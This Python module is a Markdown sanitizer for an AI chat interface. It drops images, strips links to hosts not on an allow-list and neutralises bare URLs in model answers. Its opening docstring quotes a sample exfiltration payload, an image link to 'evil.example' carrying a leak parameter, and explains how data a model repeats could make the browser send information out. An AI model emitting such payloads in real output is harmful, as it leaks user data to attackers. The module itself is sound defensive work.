"""Model answers and data made safe to show as Markdown: an allow-list sanitizer.

The chat renderer (react-markdown with GFM) loads every image it is given and links every URL
it sees, and a model answer repeats whatever the data holds: a company name carrying
`![p](https://evil.example/p.png?leak=…)` would make the browser call that host. So what the
UI shows keeps only text, emphasis, headings, lists, tables, code and links to allowed hosts:

- images are dropped, their alt text kept as plain text;
- links to other hosts (or other schemes) become their text; reference links stay as typed;
- `<` is escaped, so raw HTML and `<…>` autolinks show as text (allowed `<url>` stay links);
- a bare URL to another host stays readable but unclickable: a WORD JOINER (U+2060, invisible)
  goes after `https:` or `www`, since GFM links such URLs after backslash escapes and
  entities are decoded (so escaping cannot stop it) and U+200B is Chainlit's cursor marker;
- `!` and `&` are always escaped (no image can form in front of a kept link, no entity can
  rebuild a URL), and so is every character that came escaped or as an entity.

Fenced code blocks are kept verbatim, but only those opening at column 0 — the only fences
whose extent this module and the renderer are sure to agree on (a fence at column 0 can sit in
no list or quote); any other line that looks like a fence is escaped. Elsewhere, code spans get
the same treatment as text: an escape shows there as a stray backslash, which is harmless.
"""

from __future__ import annotations

import html.entities
import re
from collections.abc import Collection, Iterable, Sequence
from typing import NamedTuple
from urllib.parse import urlsplit

from agent.artifacts import Artifact, CompaniesArtifact, CompanyArtifact, SignalsArtifact
from agent.i18n.markdown import escape_markdown
from store.models import ANNUAIRE_URL

JOINER = "\u2060"
ANNUAIRE_HOST = urlsplit(ANNUAIRE_URL).hostname or ""
DEFAULT_HOSTS = frozenset({ANNUAIRE_HOST})
# Where the legal notices a signal cites are published
BODACC_HOSTS = frozenset({"www.bodacc.fr", "bodacc.fr"})

# What a link may point to: http(s), a plain host name, a path without spaces, quotes, angle
# brackets, parentheses, backslashes or `!` (that could end a Markdown destination early).
_SAFE_URL = re.compile(
    r"(?i)(?:https?)://(?P<host>[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)+)"
    r"(?::[0-9]{1,5})?(?:[/?#][a-z0-9\-._~/?#%=&+,;:@]*)?"
)
_BARE_URL = re.compile(r"(?i)https?://|www\.")
_URL_END = " \t\n"  # GFM ends a bare URL at these only
_URL_TRAIL = "!\"&'),.:;<>?]}"  # GFM leaves these out at the end of a bare URL
_OPEN_FENCE = re.compile(r"(?P<fence>`{3,}|~{3,})(?P<info>.*)")
_FENCE_LIKE = re.compile(r"^(?P<indent>[ \t]*)(?=```|~~~)", re.MULTILINE)
_ENTITY = re.compile(
    r"&(?:#[xX](?P<hex>[0-9a-fA-F]{1,6})|#(?P<dec>[0-9]{1,7})|(?P<name>[A-Za-z][A-Za-z0-9]{0,31}));"
)
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_ALWAYS_ESCAPED = frozenset("[]<!&\\")


class _Char(NamedTuple):
    """One character of the text as the renderer reads it; `literal` when it came escaped or
    as an entity, so it can never be syntax."""

    char: str
    literal: bool


def sanitize_markdown(text: str, hosts: Collection[str] = DEFAULT_HOSTS) -> str:
    """`text` with only allowed Markdown left: see the module docstring."""
    allowed = frozenset(host.lower() for host in hosts)
    lines = text.replace("\x00", "\ufffd").replace("\r\n", "\n").replace("\r", "\n").split("\n")
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in lines:
        if fence is not None:
            out.append(line)
            if _closes(line, fence):
                fence = None
            continue
        if opening := _opening(line):
            out.extend(_prose("\n".join(prose), allowed) if prose else [])
            prose = []
            fence = opening["fence"]
            language = (opening["info"].split() or [""])[0]
            out.append(fence + re.sub(r"[^A-Za-z0-9_+#.-]", "", language))
            continue
        prose.append(line)
    if prose:
        out.extend(_prose("\n".join(prose), allowed))
    return "\n".join(out)


def settled_length(text: str) -> int:
    """How much of the start of `text` later text cannot change the sanitizing of: up to its
    last blank line outside a fenced code block (what follows starts a new paragraph)."""
    fence: str | None = None
    settled = 0
    for line in re.finditer(r"[^\n]*\n", text):
        content = line.group()[:-1]
        if "\r" in content:  # a line break of another kind: leave the rest unsettled
            break
        if fence is not None:
            fence = None if _closes(content, fence) else fence
        elif opening := _opening(content):
            fence = opening["fence"]
        elif not content.strip(" \t"):
            settled = line.end()
    return settled


def is_allowed_url(url: str, hosts: Collection[str]) -> bool:
    """Whether `url` is a plain http(s) URL on one of `hosts`."""
    match = _SAFE_URL.fullmatch(url)
    return match is not None and match["host"].lower() in hosts


def link_hosts(artifacts: Iterable[Artifact]) -> frozenset[str]:
    """The hosts an answer may link to: the public company directory, the websites of the
    companies the turn's tools returned (with and without `www.`), and BODACC when they
    returned signals."""
    hosts = set(DEFAULT_HOSTS)
    for artifact in artifacts:
        if isinstance(artifact, SignalsArtifact) or (
            isinstance(artifact, CompanyArtifact) and artifact.signals
        ):
            hosts |= BODACC_HOSTS  # the notices the signals cite
        match artifact:
            case CompaniesArtifact():
                companies = list(artifact.companies)
            case CompanyArtifact():
                companies = [artifact.company]
            case _:
                companies = []
        for company in companies:
            match = _SAFE_URL.fullmatch(company.website or "")
            if match:
                host = match["host"].lower().removeprefix("www.")
                hosts |= {host, f"www.{host}"}
    return frozenset(hosts)


def plain_text(value: object) -> str:
    """`value` as one line of literal text: escaped, and no URL in it can become a link."""
    return escape_markdown(_BARE_URL.sub(_break_url, str(value)))


def _break_url(match: re.Match[str]) -> str:
    found = match.group()
    return f"{found[:-2]}{JOINER}//" if found.endswith("//") else f"{found[:-1]}{JOINER}."


def _opening(line: str) -> re.Match[str] | None:
    """A fence opening at column 0 (a backtick fence's info string holds no backtick)."""
    opening = _OPEN_FENCE.fullmatch(line)
    if opening and opening["fence"][0] == "`" and "`" in opening["info"]:
        return None
    return opening


def _closes(line: str, fence: str) -> bool:
    stripped = line.lstrip(" ")
    if len(line) - len(stripped) > 3:
        return False
    run = len(stripped) - len(stripped.lstrip(fence[0]))
    return run >= len(fence) and not stripped[run:].strip(" \t")


def _prose(text: str, hosts: frozenset[str]) -> list[str]:
    safe = _Inline(_decode(text), hosts).render()
    # No fence may open where this module does not know it: the renderer would then read the
    # code this module keeps verbatim as Markdown.
    return _FENCE_LIKE.sub(r"\g<indent>\\", safe).split("\n")


def _decode(text: str) -> list[_Char]:
    """The characters the renderer reads: backslash escapes and entities resolved."""
    chars: list[_Char] = []
    i = 0
    while i < len(text):
        char = text[i]
        if char == "\\" and i + 1 < len(text) and text[i + 1] in _PUNCTUATION:
            chars.append(_Char(text[i + 1], True))
            i += 2
            continue
        if char == "&" and (entity := _ENTITY.match(text, i)) and (decoded := _entity(entity)):
            # An entity is text, never a line break: a new line would change the blocks.
            chars.extend(_Char(" " if c in "\n\r" else c, True) for c in decoded)
            i = entity.end()
            continue
        chars.append(_Char(char, False))
        i += 1
    return chars


def _entity(match: re.Match[str]) -> str | None:
    if match["name"]:
        return html.entities.html5.get(match["name"] + ";")
    code = int(match["hex"], 16) if match["hex"] else int(match["dec"])
    valid = 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF
    return chr(code) if valid else "\ufffd"


class _Inline:
    """One run of prose, read left to right into safe Markdown."""

    def __init__(self, chars: Sequence[_Char], hosts: frozenset[str]) -> None:
        self.chars = chars
        self.hosts = hosts
        self.text = "".join(c.char for c in chars)
        self.pairs = _pairs(chars, self.text)
        self.word_end = _word_ends(self.text)

    def render(self, start: int = 0, end: int | None = None, *, links: bool = True) -> str:
        """The characters [start, end) as safe Markdown; links only when `links`."""
        end = len(self.chars) if end is None else end
        out: list[str] = []
        i = start
        while i < end:
            char, literal = self.chars[i]
            step: tuple[str, int] | None = None
            if not literal and char == "!" and self._raw(i + 1, "["):
                step = self._image(i, end)
            elif not literal and char == "[" and links:
                step = self._link(i, end)
            elif not literal and char == "<":
                step = self._autolink(i, end)
            elif char in "hHwW" and _BARE_URL.match(self.text, i, end):
                step = self._bare_url(i, end)
            if step is None:
                step = (self._char(i), i + 1)
            shown, i = step
            out.append(shown)
        return "".join(out)

    def _char(self, i: int) -> str:
        char, literal = self.chars[i]
        if char == "\\" and not literal and self._raw(i + 1, "\n"):
            return char  # a hard line break
        if char in _ALWAYS_ESCAPED or (literal and char in _PUNCTUATION):
            return "\\" + char
        return char

    def _raw(self, i: int, char: str) -> bool:
        return i < len(self.chars) and self.chars[i] == (char, False)

    def _closing(self, i: int, end: int) -> int | None:
        """Where the raw bracket or parenthesis opened at i closes, if before `end`."""
        close = self.pairs.get(i)
        return close if close is not None and close < end else None

    def _image(self, i: int, end: int) -> tuple[str, int] | None:
        """An image, dropped: its alt text as plain text. None when `![` opens nothing."""
        close = self._closing(i + 1, end)
        if close is None:
            return None
        after = close + 1
        if self._raw(after, "(") or self._raw(after, "["):
            target_end = self._closing(after, end)
            if target_end is not None:
                after = target_end + 1
        return plain_text(self.text[i + 2 : close]), after

    def _link(self, i: int, end: int) -> tuple[str, int] | None:
        """An inline link: kept when it points to an allowed host, else its text alone."""
        close = self._closing(i, end)
        if close is None or not self._raw(close + 1, "("):
            return None
        target_end = self._closing(close + 1, end)
        if target_end is None:
            return None
        target = self.text[close + 2 : target_end].strip()
        url = target.split(maxsplit=1)[0] if target else ""
        if url.startswith("<"):
            url = url[1:].split(">", 1)[0]
        label = self.render(i + 1, close, links=False)
        if label.strip() and is_allowed_url(url, self.hosts):
            return f"[{label}]({url})", target_end + 1
        return label, target_end + 1

    def _autolink(self, i: int, end: int) -> tuple[str, int] | None:
        """`<url>` to an allowed host, kept as a bare URL (GFM links it); else None."""
        close = self.text.find(">", i, min(end, self.word_end[i]))
        if close == -1 or not is_allowed_url(self.text[i + 1 : close], self.hosts):
            return None
        return self.text[i + 1 : close], close + 1

    def _bare_url(self, i: int, end: int) -> tuple[str, int]:
        """A URL GFM would link: kept to an allowed host, else its start broken."""
        url = self.text[i : min(end, self.word_end[i])].rstrip(_URL_TRAIL)
        candidate = url if url[:4].lower() != "www." else f"http://{url}"
        if is_allowed_url(candidate, self.hosts):
            return url, i + len(url)
        prefix = _BARE_URL.match(self.text, i, end)
        assert prefix is not None
        head = prefix.end() - (2 if prefix.group().endswith("//") else 1)
        return "".join(self._char(j) for j in range(i, head)) + JOINER, head


def _pairs(chars: Sequence[_Char], text: str) -> dict[int, int]:
    """Raw `[` and `(` mapped to the raw `]` and `)` that close them within their paragraph."""
    pairs: dict[int, int] = {}
    stacks: dict[str, list[int]] = {"[": [], "(": []}
    closers = {"]": "[", ")": "("}
    for i, (char, literal) in enumerate(chars):
        if char == "\n" and text[i + 1 :].lstrip(" \t").startswith("\n"):
            stacks = {"[": [], "(": []}  # a blank line ends the paragraph
        elif literal:
            continue
        elif char in stacks:
            stacks[char].append(i)
        elif char in closers and stacks[closers[char]]:
            pairs[stacks[closers[char]].pop()] = i
    return pairs


def _word_ends(text: str) -> list[int]:
    """For each index, where the run of characters up to a space, tab or line break ends."""
    ends = [len(text)] * (len(text) + 1)
    for i in range(len(text) - 1, -1, -1):
        ends[i] = i if text[i] in _URL_END else ends[i + 1]
    return ends


def code_block(text: str, language: str = "text") -> str:
    """`text` verbatim in a fenced code block that nothing inside it can close."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"
